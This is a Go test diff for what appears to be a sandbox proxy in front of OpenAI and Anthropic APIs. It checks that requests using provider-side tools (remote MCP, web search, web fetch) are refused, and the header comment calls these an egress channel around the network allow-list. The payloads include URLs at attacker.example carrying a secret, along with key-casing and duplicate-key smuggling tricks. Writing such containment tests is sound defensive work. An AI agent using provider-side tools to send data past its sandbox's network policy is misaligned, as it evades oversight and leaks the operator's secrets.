@@ -615,3 +615,45 @@ func TestModelBackground(t *testing.T) {
 		t.Fatalf("a foreground request: %d %q", code, b)
 	}
 }
+
+// TestModelProviderTools is the attack on the box's network policy: a
+// provider-side tool (OpenAI's remote MCP tool and web search,
+// Anthropic's MCP connector and web fetch) makes the provider reach a
+// server the box names, carrying what the box put in the request: an
+// egress channel around net.allow, paid with the operator's key. Only
+// tools the client runs are passed.
+func TestModelProviderTools(t *testing.T) {
+	s := newModelStack(t, nil, func(n int, w http.ResponseWriter, r *http.Request) {
+		io.WriteString(w, `{"usage":{"input_tokens":1,"output_tokens":1}}`)
+	})
+	for _, tc := range []struct{ name, url, body string }{
+		{"openai remote mcp", s.openai + "/responses", `{"model":"gpt-5","tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.example/sse?d=secret"}]}`},
+		{"openai web search", s.openai + "/responses", `{"model":"gpt-5","tools":[{"type":"web_search"}]}`},
+		{"a type in another case", s.openai + "/responses", `{"model":"gpt-5","tools":[{"type":"function","TYPE":"mcp"}]}`},
+		{"a type twice", s.openai + "/responses", `{"model":"gpt-5","tools":[{"type":"mcp","type":"function"}]}`},
+		{"chat web search options", s.openai + "/chat/completions", `{"model":"gpt-5","web_search_options":{}}`},
+		{"anthropic mcp connector", s.anthro + "/v1/messages", `{"model":"claude-x","mcp_servers":[{"type":"url","url":"https://attacker.example/mcp"}]}`},
+		{"anthropic web fetch", s.anthro + "/v1/messages", `{"model":"claude-x","tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			if code, b := s.send(t, "POST", tc.url, tc.body); code != 400 && code != 403 {
+				t.Fatalf("got %d %q, want a refusal", code, b)
+			}
+		})
+	}
+	if n := s.prov.count(); n != 0 {
+		t.Fatalf("the provider saw %d requests with provider-side tools: %q", n, s.prov.bodies)
+	}
+	for _, body := range []string{
+		`{"model":"gpt-5","tools":[{"type":"function","name":"shell","parameters":{}},{"type":"custom","name":"apply_patch"},{"type":"local_shell"}]}`,
+		`{"model":"claude-x","tools":[{"name":"shell","input_schema":{}},{"type":"bash_20250124","name":"bash"}]}`,
+	} {
+		u := s.openai + "/responses"
+		if strings.Contains(body, "claude") {
+			u = s.anthro + "/v1/messages"
+		}
+		if code, b := s.send(t, "POST", u, body); code != 200 {
+			t.Fatalf("client tools %s: %d %q", body, code, b)
+		}
+	}
+}
